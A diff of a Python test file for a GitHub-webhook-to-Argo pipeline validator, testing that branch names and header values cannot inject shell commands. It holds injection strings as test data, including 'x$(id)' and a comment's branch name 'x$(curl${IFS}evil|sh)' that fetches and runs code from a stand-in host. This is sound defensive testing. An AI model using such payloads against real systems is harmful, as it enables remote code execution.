@@ -136,7 +136,7 @@ def test_header_values_are_guarded() -> None:
     assert values(pipe, payload("push-branch"), "push", delivery="x$(id)")["delivery_id"] == ""
 
 
-def _project(tmp_path: Path, template: str | None = None) -> Path:
+def _project(tmp_path: Path, template: str | None = None, parameters: dict[str, str] | None = None) -> Path:
     """A project with one stack `t`: a push pipeline on secret-scan, or on `template` (YAML text) if given."""
     template_path = PROJECT_ROOT / "workflows" / "secret-scan.yaml"
     if template is not None:
@@ -146,7 +146,8 @@ def _project(tmp_path: Path, template: str | None = None) -> Path:
         "argo-github-webhooks:host": "argo.example.com",
         "argo-github-webhooks:organizations": ["acme"],
         "argo-github-webhooks:pipelines": [
-            {"name": "scan", "template": str(template_path), "events": ["push", "pull_request"]}
+            {"name": "scan", "template": str(template_path), "events": ["push", "pull_request"],
+             **({"parameters": parameters} if parameters else {})}
         ],
     }
     return project_with_stack(tmp_path, "t", config)
@@ -174,17 +175,19 @@ def test_simulator_refuses_a_template_that_would_run_the_branch_name(
         'git fetch -q --depth 1 origin "$HEAD_COMMIT" || git fetch -q --depth 1 origin "$GIT_REF"',
         'git fetch -q --depth 1 origin "$HEAD_COMMIT" || git fetch -q --depth 1 origin {{workflow.parameters.git_ref}}',
     )
-    project = _project(tmp_path, template)
+    # The well-known git_ref is guarded by its binding (a branch like x$(curl${IFS}evil|sh) gives ""); a pipeline
+    # that maps the raw ref itself makes git_ref the delivery's text, which may reach the clone through env only.
+    project = _project(tmp_path, template, parameters={"git_ref": "ref"})
     code = main(["--stack", "t", "--event", "push", "--payload", str(PAYLOADS / "push-branch.json")],
                 project_root=project)
     err = capsys.readouterr().err
     assert code == 2
     assert (
         f"argo-github-webhooks:pipelines[0] (scan).template ({tmp_path / 't.yaml'}): template 'scan': "
-        "initContainers[clone].args[0] puts the event-derived parameter 'git_ref' ({{workflow.parameters.git_ref}}) "
-        "into sh -c, which parses it as code" in err
+        "initContainers[clone].args[0] carries the event-derived parameter 'git_ref' "
+        "({{workflow.parameters.git_ref}}); an argument is parsed by the program it goes to" in err
     )
-    assert "pass it through the environment instead" in err
+    assert "pass it through the environment" in err
 
 
 def test_simulator_says_why_a_fork_pull_request_did_not_fire(
